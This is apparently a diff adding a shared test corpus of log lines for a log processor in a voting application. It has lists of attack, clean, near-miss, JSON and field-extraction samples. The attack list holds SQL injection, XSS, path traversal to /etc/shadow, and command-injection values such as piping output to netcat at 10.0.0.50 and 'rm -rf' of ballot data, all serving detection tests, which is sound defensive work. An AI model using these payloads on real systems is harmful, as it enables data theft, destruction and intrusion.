@@ -0,0 +1,100 @@
+# """
+# Log line corpus shared by the log_processor tests and benchmarks
+# """
+
+ATTACK_LINES = [
+    "GET /api/elections?id=1 UNION SELECT username, password FROM users",
+    "query=select name from voters where id=1",
+    "POST /api/vote body=' or '1'='1",
+    "POST /api/login user=admin' OR 1=1 --",
+    "payload=EXEC('xp_cmdshell dir')",
+    "comment=<script>alert(document.cookie)</script>",
+    'redirect=javascript:confirm("x")',
+    "profile=<iframe src=//evil.example>",
+    "GET /api/files?name=report.pdf; cat /etc/passwd",
+    "cmd=ping 127.0.0.1 | nc 10.0.0.50 4444",
+    "args=x && rm -rf /var/lib/ballots",
+    "GET /static/../../../etc/shadow HTTP/1.1",
+    "GET /static/%2e%2e%2f%2e%2e%2fwindows/system32/config",
+    "GET /static/..%2f..%2fapp.env",
+    "WARN Failed login for user: alice from 203.0.113.7",
+    "ERROR authentication failed for username: bob ip=198.51.100.23",
+    "WARN Too many attempts, account locked for email: carol@example.org",
+    "ERROR rate limit exceeded client=192.168.1.100",
+    "WARN sudo su executed by user: deploy",
+    "ERROR unauthorized access to /admin from 172.16.0.25",
+    "ERROR Permission denied while reading /var/run/secrets",
+    "Mozilla/5.0 user-agent: sqlmap/1.7 drop table ballots",
+]
+
+CLEAN_LINES = [
+    "INFO GET /api/elections 200 12ms",
+    "INFO POST /api/vote 201 48ms user: voter-1842 ip 10.20.30.40",
+    "DEBUG cache hit key=election:2024:candidates",
+    "INFO Block 18231 mined with 4 transactions",
+    "INFO 127.0.0.1 - - [12/Mar/2024:10:00:00 +0000] \"GET /health HTTP/1.1\" 200 2",
+    "INFO Committee member verified signature for ballot 7f3c2a",
+    "WARN slow query took 1200ms on table results",
+    "INFO user-agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
+    "INFO Session refreshed for email: dave@example.org",
+    "ERROR Upstream timeout contacting blockchain node 3",
+]
+
+# Lines that contain prefilter keywords or partial attack syntax without
+# being attacks, plus unusual casing and whitespace around real attacks
+NEAR_MISS_LINES = [
+    "INFO selected candidate list refreshed",
+    "INFO union membership verified for committee",
+    "DEBUG response body={'status': 'ok'}",
+    "INFO manuscript uploaded; size=120kb | stored",
+    "INFO build && deploy finished",
+    "INFO loaded ../config/defaults.json",
+    "WARN password reset email sent, passwd policy v2",
+    "INFO su\x0b-login shell disabled",
+    "WARN SU\t- root attempted by user: mallory",
+    "INFO jesu -s flag ignored",
+    "INFO Select\x1cfrom\x1cnowhere",
+    "ERROR LOGIN FAILED for username: eve",
+    "INFO usr/bin/sudo not present on node",
+]
+
+JSON_LINES = [
+    '{"level": "INFO", "message": "GET /api/elections 200", "user": "voter-1"}',
+    '{"level": "WARN", "message": "Failed login", "user": "alice", "ip_address": "203.0.113.7"}',
+    '{"level": "ERROR", "message": "id=1 UNION SELECT password FROM users", "ip_address": "192.168.1.100", "user_agent": "sqlmap/1.7"}',
+    '{"level": "INFO", "message": "vote cast", "election": {"id": 2024, "round": 1}}',
+    ' {"level": "DEBUG", "message": "padded json line"}',
+    '{"level": "INFO", "message": "score", "value": NaN}',
+    '{"level": "INFO", "message": "big", "value": 123456789012345678901234567890}',
+]
+
+# Fragments that exercise the field extractors, including their priority
+# order and overlapping keywords
+FIELD_FRAGMENTS = [
+    "INFO",
+    "warn",
+    "Error:",
+    "FATALITY",
+    "DEBUGGER",
+    "user: alice",
+    "User:bob",
+    "username: carol",
+    "USERNAME dave",
+    "email: eve@example.org",
+    "user-agent: curl/8.5.0",
+    "User Agent: Mozilla/5.0 (X11)",
+    "useragent:sqlmap/1.7",
+    "user_agent=ignored",
+    "user agent",
+    "10.0.0.50",
+    "999.1.1.1",
+    "1.2.3.4.5",
+    "v1.2.3",
+    "a10.0.0.1",
+    "port 8080",
+    "2001:db8::1",
+    "superuser: root",
+    "emails: x",
+    "\n",
+    ";",
+]